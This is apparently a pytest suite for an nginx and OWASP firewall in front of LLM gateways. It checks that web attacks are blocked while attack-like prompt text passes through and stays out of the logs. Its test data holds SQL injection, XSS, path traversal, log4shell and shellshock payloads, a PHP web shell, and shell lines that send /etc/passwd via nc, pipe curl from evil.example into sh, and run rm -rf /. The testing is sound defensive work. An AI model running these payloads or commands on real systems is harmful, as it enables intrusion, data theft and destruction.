"""nginx in front of gateways, with the OWASP core rule set before it: attacks are stopped, and what people write to models is not."""

from __future__ import annotations

import json
import os
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.conftest import GatewayHandle, coollm, wait_for
from tests.console.visitor import PASSWORD, SERVER
from tests.firewall import nginx
from tests.fleet.conftest import two_gateways

AUDIT = Path("/var/log/nginx/modsec_audit.log")


class Front:
    def __init__(self, home: Path, url: str, gateways: list[GatewayHandle]) -> None:
        self.home, self.url, self.gateways = home, url, gateways
        self.audit_before = AUDIT.stat().st_size if AUDIT.exists() else 0
        self.session = requests.Session()
        self.session.headers["authorization"] = gateways[0].headers["authorization"]

    def ask(self, method: str, path: str, **more: Any) -> requests.Response:
        return self.session.request(method, self.url + path, timeout=20, verify=str(self.home / "cert.pem"), **more)

    def chat(self, content: str, **more: Any) -> requests.Response:
        body = {"model": "gpt-sim", "messages": [{"role": "user", "content": content}], **more}
        return self.ask("POST", "/v1/chat/completions", json=body, stream=bool(more.get("stream")))


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Front]:
    home = tmp_path_factory.mktemp("nginx")
    with two_gateways(home) as (a, b):
        words = ["--firewall", "--certificate", str(home / "both.pem"), "--max-body-mb", "8", "--admin-from", "10.1.0.0/16"]
        with nginx(home / "front", [a, b], *words) as url:
            yield Front(home, url, [a, b])


ATTACKS: dict[str, dict[str, Any]] = {
    "sql in the address": {"method": "GET", "path": "/v1/models?id=1'%20UNION%20SELECT%20password%20FROM%20users--%20"},
    "sql elsewhere": {"method": "GET", "path": "/health?id=1'%20OR%20'1'='1'%20--%20"},
    "a script in the address": {"method": "GET", "path": "/health?q=<script>alert(1)</script>"},
    "a path to files": {"method": "GET", "path": "/health?file=../../../../etc/passwd"},
    "a command in the address": {"method": "GET", "path": "/health?x=;cat%20/etc/passwd"},
    "log4shell in a header": {"method": "GET", "path": "/v1/models", "headers": {"x-api-version": "${jndi:ldap://other.example/b}"}},
    "shellshock in a header": {"method": "GET", "path": "/v1/models", "headers": {"x-probe": "() { :;}; /bin/bash -c 'id'"}},
    "a scanner": {"method": "GET", "path": "/v1/models", "headers": {"user-agent": "sqlmap/1.7 (https://sqlmap.org)"}},
    "sql in a cookie": {"method": "GET", "path": "/v1/models", "headers": {"cookie": "id=1' UNION SELECT password FROM users-- "}},
    "a method that is none": {"method": "TRACK", "path": "/v1/models"},
    "a body that is cut off": {"method": "POST", "path": "/v1/chat/completions", "data": '{"model": "gpt-sim", "messages": [', "json_type": True},
    "a body of 200 levels": {"method": "POST", "path": "/v1/chat/completions", "data": '{"model":' + "[" * 200 + "]" * 200 + "}", "json_type": True},
    "sql for a model": {"method": "POST", "path": "/v1/chat/completions", "json": {"model": "x' OR 1=1 --", "messages": []}},
    "a query of none of ours": {"method": "POST", "path": "/v1/chat/completions?q=<script>", "json": {"model": "gpt-sim", "messages": []}},
    "sql in a body that is no prompt": {"method": "POST", "path": "/other", "json": {"name": "1' UNION SELECT password FROM users-- "}},
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_stopped(front: Front, name: str) -> None:
    attack = dict(ATTACKS[name])
    if attack.pop("json_type", False):
        attack["headers"] = {"content-type": "application/json"}
    before = [len(gateway.requests_logged()) for gateway in front.gateways]
    answer = front.ask(attack.pop("method"), attack.pop("path"), **attack)
    assert answer.status_code in (403, 405), answer.text
    if answer.status_code == 403:
        assert answer.json()["error"]["code"] == "request_refused"
    assert [len(gateway.requests_logged()) for gateway in front.gateways] == before


PROMPTS = {
    "sql": "What does SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; -- do? And ' UNION SELECT password FROM users --",
    "html": "Explain <script>alert(document.cookie)</script><img src=x onerror=alert(1)> and javascript:alert(1)",
    "shell": "Run `cat /etc/passwd | nc evil 80; rm -rf /` and $(curl evil.example/x.sh|sh) in C:\\windows\\cmd.exe /c dir",
    "php": "<?php system($_GET['cmd']); ?> and ../../../../etc/shadow",
    "log4j": "${jndi:ldap://evil.example/a}",
    "templates": "{{7*7}} ${7*7} <%= 7*7 %> __proto__ constructor.prototype",
    "many lines": "\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n" * 20,
    "unicode": "\u0000\u202e\ufeff \U0001f600 " * 50,
}


@pytest.mark.parametrize("name", PROMPTS)
def test_prompts_are_nobodys_business(front: Front, name: str) -> None:
    tool = {
        "type": "function",
        "function": {"name": "run", "description": PROMPTS[name], "parameters": {"type": "object", "properties": {"1=1": {"type": "string"}}}},
    }
    for body in ({}, {"tools": [tool]}, {"stop": [PROMPTS[name][:20]], "user": "o'neill"}):
        answer = front.chat(PROMPTS[name], **body)
        assert answer.status_code == 200, answer.text
    told = (front.home / "front" / "errors.txt").read_text(errors="replace") + AUDIT.read_bytes()[front.audit_before :].decode("utf-8", "replace")
    assert PROMPTS[name][:30] not in told


def test_streams_come_as_they_are_made_and_both_hosts_serve(front: Front) -> None:
    began, first = time.monotonic(), 0.0
    answer = front.chat("hello", model="gpt-sim~rate=10~tokens=20", stream=True)
    for line in answer.iter_lines():
        if b"content" in line and not first:
            first = time.monotonic() - began
    assert time.monotonic() - began - first > 1
    for _ in range(10):
        assert front.chat("hello").status_code == 200
    wait_for(lambda: min(len(gateway.requests_logged()) for gateway in front.gateways) > 0, 5, "both hosts")


def test_large_bodies_and_those_that_are_too_large(front: Front) -> None:
    picture = [{"type": "image_url", "image_url": {"url": "data:image/png;base64," + "QUJD" * 700_000}}]
    assert front.ask("POST", "/v1/chat/completions", json={"model": "gpt-sim", "messages": [{"role": "user", "content": picture}]}).status_code == 200
    many = front.ask("POST", "/v1/embeddings", json={"model": "gpt-sim", "input": [f"text {number}" for number in range(2000)]})
    assert many.status_code in (200, 400, 404), many.text  # the gateway's own answer
    assert "request_refused" not in many.text
    refused = front.chat("x" * 9_000_000)
    assert refused.status_code == 413
    assert refused.json()["error"]["code"] == "request_too_large"


def test_what_is_for_administrators_alone(front: Front) -> None:
    for path in ("/admin/v1/status", "/metrics", "/ADMIN/v1/status", "/ui"):
        assert front.ask("GET", path).status_code == 404


def test_administrators_use_the_console_and_send_a_configuration_that_looks_like_an_attack(tmp_path: Path) -> None:
    words = ["--firewall", "--certificate", str(tmp_path / "both.pem"), "--admin-from", "127.0.0.1"]
    with two_gateways(tmp_path, SERVER) as (a, _), nginx(tmp_path / "front", [a], *words) as url, requests.Session() as session:
        session.trust_env, session.verify = False, str(tmp_path / "cert.pem")
        session.headers["origin"] = url
        signed = session.post(f"{url}/ui/sign-in", data={"name": "root", "password": PASSWORD}, timeout=20, allow_redirects=False)
        assert signed.status_code == 303, signed.text
        assert signed.headers["set-cookie"].startswith("__Host-")
        page = session.get(f"{url}/ui/configuration/edit", timeout=20).text
        token = re.search(r'name="form_token" value="([^"]+)"', page)
        assert token
        text = "# ' OR 1=1 -- <script>alert(1)</script> ; cat /etc/passwd ${jndi:ldap://x}\n" + a.home.joinpath("coollm.yaml").read_text()
        checked = session.post(f"{url}/ui/configuration/check", data={"text": text, "form_token": token[1]}, timeout=20)
        assert checked.status_code == 200, checked.text
        assert ">valid</span>" in checked.text


def test_a_host_that_dies(front: Front) -> None:
    """A port at which nobody listens any more: the request goes to the other host."""
    os.kill(front.gateways[1].process.pid, 15)
    front.gateways[1].process.wait(30)
    assert {front.chat("hello").status_code for _ in range(12)} == {200}
    os.kill(front.gateways[0].process.pid, 15)
    front.gateways[0].process.wait(30)
    answer = front.chat("hello")
    assert answer.status_code == 502
    assert json.loads(answer.text)["error"]["code"] == "gateway_unreachable"


def test_faults_of_the_command(tmp_path: Path) -> None:
    (tmp_path / "fleet.yaml").write_text("fleet: {hosts: [{name: gw1}]}\n")
    for words in (["--firewall"], ["--kind", "nginx", "--stick", "x-session-id"], ["--kind", "apache"]):
        assert coollm("lb", "render", *words, cwd=tmp_path).returncode == 2
    before = coollm("lb", "render", "--kind", "nginx", "--upstream", "lb1:443", cwd=tmp_path)
    assert "server lb1:443" in before.stdout
    assert "gw1" not in before.stdout
